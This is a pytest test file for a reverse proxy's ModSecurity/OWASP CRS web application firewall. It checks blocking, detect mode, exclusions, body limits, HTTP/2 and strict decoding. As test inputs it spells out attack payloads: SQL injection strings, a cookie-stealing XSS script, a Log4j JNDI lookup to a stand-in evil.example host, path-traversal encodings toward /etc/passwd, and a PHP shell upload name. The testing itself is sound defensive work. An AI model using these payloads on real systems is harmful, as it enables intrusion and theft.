"""The WAF (issue 10): `waf NAME { rules ... }` sections with libmodsecurity
3 and the OWASP CRS as Debian ships it, applied by `use_waf NAME [if|unless
COND]`.

A blocked request never reaches a server, not even in part (the origin's
byte count stays 0); the reply is the section's status (403) with the
connection kept, one warning line names the matched rule ids and messages,
and the access log's cause is `waf-blocked`.  Inspection runs on the WAF
threads, so a slow one does not stall the worker; a client that leaves
during an inspection costs nothing (no crash, nothing leaked under ASan).

Requests carry a Host name (a bare IP is a CRS warning of its own).
"""

import socket
import threading
import time
from urllib.parse import quote

import pytest

import ghutil
from ghutil import simple_http_config, wait_for
from h2util import H2Client
from httpraw import Reader, build_request, connect, request
from test_access_log import json_lines

pytestmark = pytest.mark.skipif(ghutil.IMPL == "haproxy",
                                reason="waf sections are not translated to HAProxy")

CRS = "/usr/share/modsecurity-crs"
HOST = [("Host", "shop.example.com"), ("User-Agent", "e2e-waf"), ("Accept", "*/*")]
SQLI = "/search?id=" + quote("1' or 1=1--")   # id, not q: on q 90048 stands in for 942100 (D29)
XSS_FORM = b"name=bob&comment=" + quote("<script>alert(document.cookie)</script>").encode()
FORM = [("Content-Type", "application/x-www-form-urlencoded")]
JSON = [("Content-Type", "application/json")]


def waf_block(extra="", name="crs"):
    """A waf section.  The pre-filter is off unless `extra` says otherwise:
    its build costs seconds per start (more under ASan), and what these
    tests check does not depend on it; the tests that are about it (and
    test_waf_corpus.py, which compares it on and off) turn it on."""
    lines = ["waf %s {" % name, "    rules %s" % CRS]
    if "prefilter" not in extra:
        lines.append("    prefilter off")
    lines += ["    " + l.strip() for l in extra.splitlines() if l.strip()]
    return "\n".join(lines) + "\n}\n"


def start(gatehouse, port, origin, waf="", fe="use_waf crs", global_extra="", name="crs"):
    return gatehouse(simple_http_config(port, [origin.addr], frontend_extra=fe,
                                        global_extra=global_extra) + waf_block(waf, name))


def send(port, method, target, headers=(), body=b""):
    return request(port, method, target, HOST + list(headers), body)


def check_benign_and_attacks(g, origin, port, benign, attacks):
    """The shape the rounds' tests share: every (method, target, headers,
    body) of `benign` answered 200 by the origin, every (method, target,
    headers, body, rule, msg) of `attacks` refused 403 without reaching it,
    with one "waf crs blocked" log line each naming its rule and message."""
    for method, target, headers, body in benign:
        assert send(port, method, target, headers, body).status == 200, (target, body)
    heads = origin.stats.heads
    assert heads == len(benign)
    for method, target, headers, body, _, _ in attacks:
        assert send(port, method, target, headers, body).status == 403, (target, body)
    assert origin.stats.heads == heads        # none of them reached the origin
    lines = [l for l in g.stderr_text().splitlines() if "waf crs blocked" in l]
    assert len(lines) == len(attacks), lines
    for (_, target, _, _, rule, msg), line in zip(attacks, lines):
        assert rule + " " + msg in line, (target, line)


def untouched(origin):
    s = origin.stats
    return s.heads == 0 and s.bytes_in == 0 and s.accepts == 0


def test_sqli_in_query_is_blocked_before_the_origin(gatehouse, origin, port, tmp_path):
    log = tmp_path / "access.log"
    g = start(gatehouse, port, origin, fe="use_waf crs\naccess_log %s format json" % log)
    r = send(port, "GET", SQLI)
    assert r.status == 403
    assert untouched(origin), origin.stats.snapshot()
    assert send(port, "GET", "/search?q=shoes").status == 200
    a, b = json_lines(str(log), 2)
    assert a["status"] == 403 and a["term"] == "waf-blocked"
    assert b["status"] == 200 and b["term"] is None
    err = g.stderr_text()
    line = next(l for l in err.splitlines() if "waf crs blocked" in l)
    assert "942100 SQL Injection Attack Detected via libinjection" in line, line
    assert "949110 Inbound Anomaly Score Exceeded" in line, line


def test_paranoia_level_is_applied(gatehouse, origin, port):
    # many quotes in one argument: only paranoia 4's rules care
    q = "/p?q=" + quote("a'b'c'd'e'f")
    start(gatehouse, port, origin)
    assert send(port, "GET", q).status == 200
    p4 = ghutil.free_port()
    gatehouse(simple_http_config(p4, [origin.addr], frontend_extra="use_waf crs")
              + waf_block("paranoia 4"))
    assert send(p4, "GET", q).status == 403


def test_blocked_request_keeps_the_connection(gatehouse, origin, port):
    start(gatehouse, port, origin)
    s = connect(port)
    rd = Reader(s)
    try:
        s.sendall(build_request("GET", SQLI, HOST))
        assert rd.read_response("GET").status == 403
        s.sendall(build_request("GET", "/ok", HOST))
        assert rd.read_response("GET").status == 200
    finally:
        s.close()


def test_xss_in_a_form_body_never_reaches_the_origin(gatehouse, origin, port):
    start(gatehouse, port, origin)
    r = send(port, "POST", "/comment", FORM, XSS_FORM)
    assert r.status == 403
    assert untouched(origin), origin.stats.snapshot()
    r = send(port, "POST", "/comment", FORM, b"name=bob&comment=nice+shoes")
    assert r.status == 200
    assert origin.stats.bytes_in > 0


def test_json_bodies(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    bad = b'{"user": "admin", "q": "1\' union select password from users--"}'
    assert send(port, "POST", "/api/items", JSON, bad).status == 403
    assert untouched(origin)
    good = b'{"name": "O\'Brien\'s cafe", "note": "it\'s fine, isn\'t it", "n": [1, 2, 3]}'
    r = send(port, "POST", "/echo", JSON, good)
    assert r.status == 200, g.stderr_tail()
    assert r.json()["body_len"] == len(good) if "body_len" in r.json() else True


def test_detect_mode_logs_and_passes(gatehouse, origin, port):
    # %[waf_rules]: the matched ids, for rules (here back to the client)
    g = start(gatehouse, port, origin, waf="mode detect",
              fe="use_waf crs\nhttp_response set_header X-Waf-Rules %[waf_rules] if waf_rules != \"\"")
    r = send(port, "GET", SQLI)
    assert r.status == 200
    assert r.header("x-waf-rules") == "942100,949110", r.headers
    assert origin.stats.heads == 1
    wait_for(lambda: "waf crs detected: 942100" in g.stderr_text(), 5, what="the log line")
    r = send(port, "GET", "/search?q=shoes")
    assert r.status == 200 and not r.header("x-waf-rules")


def test_exclusions(gatehouse, origin, port, make_origin):
    start(gatehouse, port, origin, waf="exclude 942100 if path prefix /search\n"
          "exclude 941000-941999")
    # conditional: only where its condition holds
    assert send(port, "GET", SQLI).status == 200
    assert send(port, "GET", SQLI.replace("/search", "/other")).status == 403
    # a client cannot forge the internal header (its name holds a secret)
    h = [("X-Gh-Waf-00000000000000000000000000000000-e0", "1")]
    assert send(port, "GET", SQLI.replace("/search", "/other"), h).status == 403
    # unconditional: every XSS rule (a range) is gone everywhere
    assert send(port, "POST", "/comment", FORM, XSS_FORM).status == 200


def test_body_limit_reject(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="body_limit 1k")
    r = send(port, "POST", "/upload", FORM, b"a=" + b"x" * 2000)
    assert r.status == 413
    assert untouched(origin)
    # chunked: cut at the limit, as soon as it passes it
    s = connect(port)
    try:
        head = build_request("POST", "/upload", HOST + FORM + [("Transfer-Encoding", "chunked")])
        s.sendall(head + b"800\r\n" + b"a=" + b"x" * 2046 + b"\r\n")
        assert Reader(s).read_response("POST").status == 413
    finally:
        s.close()
    assert untouched(origin)
    assert send(port, "POST", "/upload", FORM, b"a=" + b"x" * 900).status == 200


def test_body_limit_pass(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="body_limit 1k\nbody_over_limit pass")
    big = b"a=" + b"x" * 3000
    assert send(port, "POST", "/upload", FORM, big).status == 200
    assert origin.stats.bytes_in >= len(big)
    before = origin.stats.bytes_in
    # an attack inside the inspected part is blocked...
    assert send(port, "POST", "/upload", FORM, XSS_FORM + b"&pad=" + b"x" * 3000).status == 403
    assert origin.stats.bytes_in == before
    # ...one past body_limit is not seen (documented)
    assert send(port, "POST", "/upload", FORM, b"pad=" + b"x" * 2000 + b"&" + XSS_FORM).status == 200


# PL4 over 1,500 arguments takes ModSecurity about 0.3 s; ASan makes that
# several seconds (more on a busy machine), longer than the tests below need
# and than a stop waits for a running inspection: 500 there.
SLOW_BODY = "&".join("a%d=value%d" % (i, i) for i in range(500 if ghutil.ASAN else 1500)).encode()


def test_slow_inspection_does_not_stall_the_worker(gatehouse, origin, port):
    # One worker; PL4 over 1,500 arguments takes ModSecurity about 0.3 s
    # (seconds on a loaded machine or under ASan).
    start(gatehouse, port, origin, waf="paranoia 4\nbody_limit 128k",
          global_extra="tune.bufsize 256k\nwaf_threads 2")
    done = {}

    def slow():
        r = request(port, "POST", "/slow", HOST + FORM, SLOW_BODY, timeout=60)
        done["slow"] = (r.status, time.monotonic())

    th = threading.Thread(target=slow)
    th.start()
    time.sleep(0.05)
    # the same worker serves these (inspected too, on the other WAF thread)
    for _ in range(5):
        assert send(port, "GET", "/fast").status == 200
    fast_done = time.monotonic()
    th.join(60)
    assert done["slow"][0] == 200
    assert fast_done < done["slow"][1], "the fast requests waited for the slow one"


def test_full_queue_fails_closed(gatehouse, origin, port):
    g = start(gatehouse, port, origin, waf="paranoia 4\nbody_limit 128k",
              global_extra="tune.bufsize 256k\nwaf_threads 1\nwaf_queue 1")
    socks = []
    try:
        for _ in range(2):   # one inspected, one waiting
            s = connect(port, timeout=60)
            s.sendall(build_request("POST", "/slow", HOST + FORM, SLOW_BODY))
            socks.append(s)
            time.sleep(0.1)
        r = send(port, "GET", "/third")
        assert r.status == 503
        for s in socks:
            assert Reader(s).read_response("POST").status == 200
    finally:
        for s in socks:
            s.close()
    assert "inspection queue full (waf_queue 1); 503" in g.stderr_text()


def test_timeout_during_inspection(gatehouse, origin, port):
    # timeout client runs while the verdict is out: its 408 wins, the
    # verdict that comes later is dropped
    start(gatehouse, port, origin, waf="paranoia 4\nbody_limit 128k",
          fe="use_waf crs\ntimeout client 100ms", global_extra="tune.bufsize 256k")
    assert send(port, "POST", "/slow", FORM, SLOW_BODY).status == 408
    time.sleep(1)
    assert send(port, "GET", "/after").status == 200
    assert origin.stats.heads == 1


def test_client_leaves_during_inspection(gatehouse, origin, port):
    g = start(gatehouse, port, origin, waf="paranoia 4\nbody_limit 128k",
              global_extra="tune.bufsize 256k\nwaf_threads 1\nlog_level debug")
    for _ in range(3):
        s = connect(port)
        s.sendall(build_request("POST", "/slow", HOST + FORM, SLOW_BODY))
        time.sleep(0.05)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
        s.close()
    # the running job finishes and its completion is dropped; the queued
    # ones are skipped; then service goes on
    r = request(port, "GET", "/after", HOST, timeout=30)
    assert r.status == 200
    assert origin.stats.heads == 1
    assert g.alive()
    # each ended when its client left (debug line, status 0), not at its verdict
    assert g.stderr_text().count('"POST /slow HTTP/1.1" 0 ') == 3, g.stderr_tail()


def test_h2_request_is_blocked(gatehouse, origin, port):
    start(gatehouse, port, origin)
    with H2Client(port) as c:
        r = c.get(SQLI, [("user-agent", "e2e-h2"), ("accept", "*/*")])
        assert r.status == 403, c.summary()
        r = c.get("/fine", [("user-agent", "e2e-h2"), ("accept", "*/*")])
        assert r.status == 200
    assert origin.stats.heads == 1


def test_h2_body_is_blocked(gatehouse, origin, port):
    start(gatehouse, port, origin)
    with H2Client(port) as c:
        sid = c.request("POST", "/comment", [("user-agent", "e2e-h2"), ("accept", "*/*"),
                                             ("content-type", FORM[0][1])], body=XSS_FORM)
        assert c.response(sid).status == 403, c.summary()
    assert untouched(origin)


def test_backend_use_waf_with_a_condition(gatehouse, origin, port):
    gatehouse(simple_http_config(port, [origin.addr], backend_extra="use_waf crs unless path prefix /trusted")
              + waf_block())
    assert send(port, "GET", SQLI).status == 403
    assert send(port, "GET", SQLI.replace("/search", "/trusted")).status == 200
    assert origin.stats.heads == 1


def test_inspect_response_heads(gatehouse, origin, port, tmp_path):
    local = tmp_path / "local.conf"
    local.write_text('SecRule RESPONSE_STATUS "@streq 418" '
                     '"id:10001,phase:3,deny,status:403,log,msg:\'teapot leak\'"\n')
    g = start(gatehouse, port, origin, waf="rules %s\ninspect_response on" % local)
    assert send(port, "GET", "/status/418").status == 403
    assert send(port, "GET", "/status/200").status == 200
    assert send(port, "GET", SQLI).status == 403
    line = next(l for l in g.stderr_text().splitlines() if "blocked the response" in l)
    assert "10001 teapot leak" in line, line


def test_inspect_response_off_by_default(gatehouse, origin, port, tmp_path):
    local = tmp_path / "local.conf"
    local.write_text('SecRule RESPONSE_STATUS "@streq 418" "id:10001,phase:3,deny,status:403"\n')
    start(gatehouse, port, origin, waf="rules %s" % local)
    assert send(port, "GET", "/status/418").status == 418


def test_config_errors(tmp_path):
    conf = tmp_path / "bad.conf"
    conf.write_text(simple_http_config(1, ["127.0.0.1:2"], frontend_extra="use_waf nope")
                    + waf_block("paranoia 5") )
    p = ghutil.run_cli(["-t", "-c", str(conf)])
    err = p.stderr.decode()
    assert p.returncode != 0
    lines = conf.read_text().splitlines()
    use = next(i for i, l in enumerate(lines) if "use_waf nope" in l) + 1
    par = next(i for i, l in enumerate(lines) if "paranoia 5" in l) + 1
    assert "bad.conf:%d:13: error: unknown waf 'nope'; expected one of: crs" % use in err, err
    assert "bad.conf:%d:14: error: 5 is out of range" % par in err, err

    conf.write_text(simple_http_config(1, ["127.0.0.1:2"], frontend_extra="use_waf crs")
                    + "waf crs {\n    rules /nonexistent/crs\n}\n")
    p = ghutil.run_cli(["-t", "-c", str(conf)])
    err = p.stderr.decode()
    line = conf.read_text().splitlines().index("    rules /nonexistent/crs") + 1
    assert p.returncode != 0
    assert ("bad.conf:%d:11: error: waf 'crs': cannot load its rules: /nonexistent/crs: "
            "No such file or directory" % line) in err, err

    # ModSecurity's own message for a rule it refuses
    rules = tmp_path / "local.conf"
    rules.write_text('SecRule ARGS "@rx foo" "id:1,phase:2,deny,nosuchaction"\n')
    conf.write_text(simple_http_config(1, ["127.0.0.1:2"], frontend_extra="use_waf crs")
                    + "waf crs {\n    rules %s\n}\n" % rules)
    p = ghutil.run_cli(["-t", "-c", str(conf)])
    err = p.stderr.decode()
    assert p.returncode != 0
    assert "bad.conf:%d:11: error: waf 'crs': cannot load its rules:" % line in err, err
    assert "local.conf" in err, err

    conf.write_text(simple_http_config(1, ["127.0.0.1:2"], frontend_extra="use_waf crs")
                    + waf_block("strict maybe"))
    p = ghutil.run_cli(["-t", "-c", str(conf)])
    assert p.returncode != 0
    assert "strict" in p.stderr.decode() and "maybe" in p.stderr.decode(), p.stderr.decode()

    conf.write_text(simple_http_config(1, ["127.0.0.1:2"], frontend_extra="use_waf crs")
                    + waf_block())
    p = ghutil.run_cli(["-t", "-c", str(conf)])
    assert p.returncode == 0, p.stderr.decode()


def test_default_exclusions_and_detections(gatehouse, origin, port):
    """`defaults on` (the default): a REST method and a GraphQL document pass,
    a Log4j lookup in any header and a prototype-pollution key are refused;
    `defaults off` is the CRS as shipped, which refuses the first two and
    lets the last two through."""
    gql = "/graphql?query=" + quote("{ me { id name } }")
    log4j = [("X-Api-Version", "${${lower:j}ndi:ldap://evil.example/x}")]
    proto = b'{"__proto__": {"isAdmin": true}}'
    # with the pre-filter: it must see gatehouse's own rules too, or the
    # Log4j and prototype-pollution requests (which no CRS rule matches)
    # would skip ModSecurity and pass
    g = start(gatehouse, port, origin, waf="prefilter on")
    assert send(port, "PUT", "/api/items/1", JSON, b'{"n": 1}').status == 200
    assert send(port, "GET", gql).status == 200
    assert send(port, "GET", "/", log4j).status == 403
    assert send(port, "POST", "/api/settings", JSON, proto).status == 403
    err = g.stderr_text()
    assert "90030 Log4j lookup" in err and "90031 JavaScript prototype pollution" in err, err

    off = ghutil.free_port()
    gatehouse(simple_http_config(off, [origin.addr], frontend_extra="use_waf crs")
              + waf_block("defaults off"))
    assert send(off, "PUT", "/api/items/1", JSON, b'{"n": 1}').status == 403
    assert send(off, "GET", gql).status == 403
    assert send(off, "GET", "/", log4j).status == 200
    assert send(off, "POST", "/api/settings", JSON, proto).status == 200


# ---- strict decoding (`strict on`, the default; waf/strict.h) ----

MP_CT = [("Content-Type", "multipart/form-data; boundary=XyZ")]


def mp_part(disposition, data=b"1"):
    return b"--XyZ\r\nContent-Disposition: " + disposition + b"\r\n\r\n" + data + b"\r\n"


AMBIGUOUS = [
    # (what the log names, method, target, headers, body)
    ("double percent-encoding in the query (%252e)", "GET",
     "/files?name=%252e%252e%252fetc", [], b""),
    ("overlong UTF-8 in the path (%c0%af)", "GET", "/static/..%c0%af..%c0%afetc", [], b""),
    ("a %u escape in the query (%u0027)", "GET", "/search?q=%u0027%u0020or", [], b""),
    ("a dot segment in a path with an encoded slash in the path (%2f..)", "GET",
     "/static%2f..%2f..%2fetc/passwd", [], b""),
    ("a dot segment hidden by percent-encoding in the path (%2e%2e)", "GET",
     "/public/%2e%2e/admin", [], b""),
    ("a parameter in both the query and the body in the query and the body (role)", "POST",
     "/profile?role=user", FORM, b"name=bob&role=admin"),
    ("a parameter given twice in a multipart part's Content-Disposition (name)", "POST",
     "/upload", MP_CT, mp_part(b'form-data; name="note"; name="role"') + b"--XyZ--\r\n"),
    ("a duplicate key in the JSON body (role)", "POST", "/api/users", JSON,
     b'{"name": "bob", "role": "user", "role": "admin"}'),
    ("more than one Content-Type field in the header fields (text/plain)", "POST", "/form",
     FORM + [("Content-Type", "text/plain")], b"a=1"),
    ("multipart without a boundary in the Content-Type", "POST", "/upload",
     [("Content-Type", "multipart/form-data")], mp_part(b'form-data; name="a"') + b"--XyZ--\r\n"),
]


@pytest.mark.parametrize("why,method,target,headers,body", AMBIGUOUS,
                         ids=[a[0].split(" in ")[0].replace(" ", "-") for a in AMBIGUOUS])
def test_strict_refuses_ambiguous_requests(gatehouse, origin, port, tmp_path, why, method,
                                           target, headers, body):
    log = tmp_path / "access.log"
    g = start(gatehouse, port, origin, fe="use_waf crs\naccess_log %s format json" % log)
    r = send(port, method, target, headers, body)
    assert r.status == 400, g.stderr_tail()
    assert untouched(origin), origin.stats.snapshot()
    (a,) = json_lines(str(log), 1)
    assert a["status"] == 400 and a["term"] == "waf-ambiguous"
    wait_for(lambda: "waf crs ambiguous: " + why in g.stderr_text(), 5, what=why)


def test_strict_passes_ordinary_encodings(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    # UTF-8 properly encoded, '+' as space, either hex case, repeated
    # parameters, ';' in paths, a literal '%'
    for target in ("/search?q=caf%C3%A9+cr%c3%a8me&tag=a&tag=b&tag=c",
                   "/a;jsessionid=1/b?discount=100%25", "/%7euser/caf%c3%a9"):
        r = send(port, "GET", target)
        assert r.status == 200, (target, g.stderr_tail())
    assert send(port, "POST", "/form?page=2", FORM, b"name=Ren%C3%A9e&tag=a&tag=b").status == 200
    ok = mp_part(b'form-data; name="a"') + mp_part(b'form-data; name="f"; filename="x.txt"',
                                                   b"hello") + b"--XyZ--\r\n"
    assert send(port, "POST", "/upload", MP_CT, ok).status == 200
    assert send(port, "POST", "/api", JSON, b'{"a": {"id": 1}, "b": {"id": 2}}').status == 200
    assert origin.stats.heads == 6
    assert "ambiguous" not in g.stderr_text()


def test_strict_h2(gatehouse, origin, port):
    start(gatehouse, port, origin)
    with H2Client(port) as c:
        r = c.get("/x?q=%252e", [("user-agent", "e2e-h2"), ("accept", "*/*")])
        assert r.status == 400, c.summary()
    assert untouched(origin)


def test_strict_chunked_body(gatehouse, origin, port):
    # the check reads the body as held, de-chunked: a chunk boundary inside
    # an escape changes nothing
    start(gatehouse, port, origin)
    s = connect(port)
    try:
        head = build_request("POST", "/p?id=1", HOST + FORM + [("Transfer-Encoding", "chunked")])
        s.sendall(head + b"5\r\na=%25\r\n6\r\n2e&id=\r\n1\r\n2\r\n0\r\n\r\n")
        assert Reader(s).read_response("POST").status == 400
    finally:
        s.close()
    assert untouched(origin)


def test_strict_off_and_detect(gatehouse, origin, port):
    # strict off: ModSecurity alone judges (here CRS 930100's path
    # traversal on the overlong slash), and an encoded slash is the app's
    g = start(gatehouse, port, origin, waf="strict off")
    assert send(port, "GET", "/static/..%c0%af..%c0%afetc/passwd").status == 403
    assert "waf crs blocked" in g.stderr_text()
    assert send(port, "GET", "/admin%2fusers").status == 200
    assert "ambiguous" not in g.stderr_text()
    # mode detect: the line is logged, the request passes
    p2 = ghutil.free_port()
    g2 = gatehouse(simple_http_config(p2, [origin.addr], frontend_extra="use_waf crs")
                   + waf_block("mode detect\nstrict_encoded_slash reject"))
    assert send(p2, "GET", "/admin%2fusers").status == 200
    wait_for(lambda: "waf crs ambiguous: an encoded slash in the path (%2f); passed (mode detect)"
             in g2.stderr_text(), 5, what="the detect line")


# ---- the pre-filter on multipart bodies (src/waf/pf_multipart.c) ----

def test_prefilter_multipart_uploads(gatehouse, origin, port):
    """With the pre-filter, an ordinary multipart upload skips ModSecurity
    (no "to ModSecurity" debug line for it) and is forwarded; a PHP file
    name, and a script split over two lines of a text part (ModSecurity
    reads the lines joined), still reach ModSecurity and are blocked; a
    multipart body of an unusual shape (quoted boundary) goes to it too."""
    g = start(gatehouse, port, origin, waf="prefilter on", global_extra="log_level debug")

    def upload(path, parts, ct=MP_CT):
        return send(port, "POST", path, ct, b"".join(parts) + b"--XyZ--\r\n")

    photo = mp_part(b'form-data; name="photo"; filename="beach.png"\r\nContent-Type: image/png',
                    b"\x89PNG\r\n\x1a\nIHDR")
    title = mp_part(b'form-data; name="title"', b"My holiday\r\nphotos")
    assert upload("/upload-ok", [title, photo]).status == 200
    shell = mp_part(b'form-data; name="f"; filename="shell.php"\r\nContent-Type: text/plain',
                    b"hello")
    assert upload("/upload-shell", [shell]).status == 403
    split = mp_part(b'form-data; name="c"',
                    b"<scr\r\nipt>alert(document.cookie)</scr\r\nipt>")
    assert upload("/comment-split", [split]).status == 403
    quoted = [("Content-Type", 'multipart/form-data; boundary="XyZ"')]
    assert upload("/upload-quoted", [title], quoted).status == 200
    wait_for(lambda: "/upload-quoted" in g.stderr_text(), timeout=5)
    sent = [l for l in g.stderr_text().splitlines() if "to ModSecurity" in l]
    assert not any("/upload-ok" in l for l in sent), sent
    assert any("/upload-shell" in l for l in sent), sent
    assert any("/comment-split" in l for l in sent), sent
    assert any("/upload-quoted" in l and "does not parse" in l for l in sent), sent


# ---- the pre-filter's "decided: pass" (src/waf/pf_pass.c) ----

def test_prefilter_decides_score_only_requests(gatehouse, origin, port):
    """"50%25 off" decodes to a '%' that is no escape: CRS 920220 (a
    warning, 3 points, below the threshold 5) really matches, and nothing
    else can.  In mode block ModSecurity would not block it nor report it,
    so the pre-filter passes it itself (a debug line says so, none says "to
    ModSecurity"), it reaches the origin without rule ids; with an SQL
    injection added it still goes to ModSecurity and is blocked.  In mode
    detect the match is logged as before (ModSecurity is asked)."""
    fe = "use_waf crs\nhttp_response set_header X-Waf-Rules %[waf_rules] if waf_rules != \"\""
    g = start(gatehouse, port, origin, waf="prefilter on", fe=fe, global_extra="log_level debug")
    r = send(port, "GET", "/search?q=50%25+off")
    assert r.status == 200, g.stderr_tail()
    assert not r.header("x-waf-rules")
    assert origin.stats.heads == 1
    r = send(port, "GET", "/search?q=50%25+off'+or+1=1--")
    assert r.status == 403
    assert origin.stats.heads == 1
    wait_for(lambda: "waf crs blocked" in g.stderr_text(), 5, what="the block line")
    lines = g.stderr_text().splitlines()
    passed = [l for l in lines if "passed by the pre-filter" in l]
    sent = [l for l in lines if "to ModSecurity" in l]
    assert any("/search?q=50%25+off " in l and "rule 920220" in l for l in passed), passed
    assert not any("/search?q=50%25+off " in l for l in sent), sent
    assert any("1=1--" in l for l in sent), sent
    assert "waf crs detected" not in g.stderr_text()

    p2 = ghutil.free_port()
    g2 = gatehouse(simple_http_config(p2, [origin.addr], frontend_extra=fe)
                   + waf_block("prefilter on\nmode detect"))
    r = send(p2, "GET", "/search?q=50%25+off")
    assert r.status == 200
    assert r.header("x-waf-rules") == "920220", r.headers
    assert origin.stats.heads == 2
    wait_for(lambda: "waf crs detected: 920220" in g2.stderr_text(), 5, what="the detect line")
